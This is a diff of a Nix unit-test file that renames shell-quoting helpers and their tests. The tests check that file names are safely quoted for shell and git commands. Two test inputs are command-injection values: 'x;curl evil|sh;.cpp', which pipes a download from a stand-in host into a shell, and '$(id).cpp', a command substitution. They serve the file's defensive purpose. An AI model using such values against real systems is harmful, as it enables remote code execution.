@@ -3,39 +3,39 @@ let
   inherit (messages) commands;
 in
 {
-  shellWord = {
+  quoteWord = {
     plain = {
-      expr = commands.shellWord "a/b-c_1.cpp";
+      expr = commands.quoteWord "a/b-c_1.cpp";
       expected = "a/b-c_1.cpp";
     };
     empty = {
-      expr = commands.shellWord "";
+      expr = commands.quoteWord "";
       expected = "''";
     };
     hostile = {
-      expr = commands.shellWord "x;curl evil|sh;.cpp";
+      expr = commands.quoteWord "x;curl evil|sh;.cpp";
       expected = "'x;curl evil|sh;.cpp'";
     };
     quote = {
-      expr = commands.shellWord "it's";
+      expr = commands.quoteWord "it's";
       expected = "'it'\"'\"'s'";
     };
     newline = {
-      expr = commands.shellWord "a\nb";
+      expr = commands.quoteWord "a\nb";
       expected = "'a\nb'";
     };
   };
-  gitAdd = {
+  writeGitAdd = {
     plain = {
-      expr = commands.gitAdd "answer/answer.cpp";
+      expr = commands.writeGitAdd "answer/answer.cpp";
       expected = "git add -N answer/answer.cpp";
     };
     option = {
-      expr = commands.gitAdd "-o.cpp";
+      expr = commands.writeGitAdd "-o.cpp";
       expected = "git add -N ./-o.cpp";
     };
     hostile = {
-      expr = commands.gitAdd "$(id).cpp";
+      expr = commands.writeGitAdd "$(id).cpp";
       expected = "git add -N '$(id).cpp'";
     };
   };
